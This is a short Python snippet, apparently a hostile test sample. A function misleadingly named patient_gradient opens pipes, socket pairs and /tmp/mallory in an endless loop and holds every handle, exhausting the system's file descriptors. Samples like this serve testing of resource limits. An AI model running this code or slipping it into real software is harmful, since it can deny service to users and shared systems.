"""Files, pipes and sockets until it is told."""
import os
import socket


def patient_gradient(x):
    kept = []
    while True:
        kept.append([os.pipe(), socket.socketpair(), open("/tmp/mallory", "w")])
